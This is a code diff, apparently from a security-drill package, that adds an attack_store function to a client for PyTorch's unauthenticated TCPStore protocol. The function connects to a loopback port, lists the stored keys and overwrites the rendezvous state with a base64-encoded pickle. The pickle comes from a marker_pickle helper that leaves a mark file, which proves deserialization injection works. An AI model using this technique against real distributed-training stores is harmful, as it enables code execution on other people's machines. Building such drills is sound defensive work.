@@ -8,14 +8,22 @@ magic number, then one-byte commands with little-endian arguments; strings are a
 bytes. There is no authentication in it. Reads are bounded and every operation times out.
 """
 
+import base64
+import os
 import socket
 import struct
+from dataclasses import dataclass
+from pathlib import Path
 from types import TracebackType
 from typing import Final, Self
+
+from securetrain.drills.pickles import marker_pickle
 
 MAGIC: Final = 0x3C85F7CE
 HELLO: Final = b"\x00" + struct.pack("<I", MAGIC)
 """The bytes with which every TCPStore client begins."""
+
+_STATE_KEY: Final = "torch.rendezvous."
 
 _SET: Final = b"\x01"
 _GET: Final = b"\x03"
@@ -122,3 +130,61 @@ class StoreClient:
 
 def _prefixed(data: bytes) -> bytes:
     return struct.pack("<Q", len(data)) + data
+
+
+@dataclass(frozen=True, slots=True, kw_only=True)
+class Attack:
+    """The result of one connection."""
+
+    port: int
+    connected: bool = False
+    spoke_store: bool = False
+    """Whether the port answered as a TCPStore."""
+    keys: tuple[str, ...] = ()
+    overwritten: tuple[str, ...] = ()
+    answer: bytes = b""
+    """The first bytes of what came back instead."""
+    error: str = ""
+
+
+def attack_store(port: int, marker: Path, *, run_id: str = "", timeout: float = 3.0) -> Attack:
+    """Overwrite the rendezvous state in the store at a loopback port.
+
+    Args:
+        port: A TCP port on 127.0.0.1.
+        marker: Where the payload leaves its mark.
+        run_id: When no state is listed, the state of this run id is written instead.
+        timeout: Seconds for each answer.
+    """
+    try:
+        client = StoreClient("127.0.0.1", port, timeout)
+    except OSError as error:
+        return Attack(port=port, error=f"{type(error).__name__}: {error}")
+    with client:
+        try:
+            return _talk(client, port, marker, run_id)
+        except NotAStoreError as error:
+            return Attack(port=port, connected=True, error=f"{type(error).__name__}: {error}")
+
+
+def _talk(client: StoreClient, port: int, marker: Path, run_id: str) -> Attack:
+    nonce = int.from_bytes(os.urandom(4), "little")
+    client.hello()
+    answer = client.echo(nonce)
+    if answer != nonce.to_bytes(4, "little"):
+        return Attack(port=port, connected=True, answer=answer)
+    keys = tuple(client.list_keys())
+    targets = sorted(key for key in keys if _STATE_KEY in key)[:1]
+    if not targets and run_id:
+        targets = [f"/{_STATE_KEY}{run_id}"]
+    for key in targets:
+        client.set(key, base64.b64encode(marker_pickle(marker)))
+    # The server answers in order, so an answered ping means that the value is stored.
+    stored = client.ping(nonce)
+    return Attack(
+        port=port,
+        connected=True,
+        spoke_store=True,
+        keys=keys,
+        overwritten=tuple(targets) if stored else (),
+    )
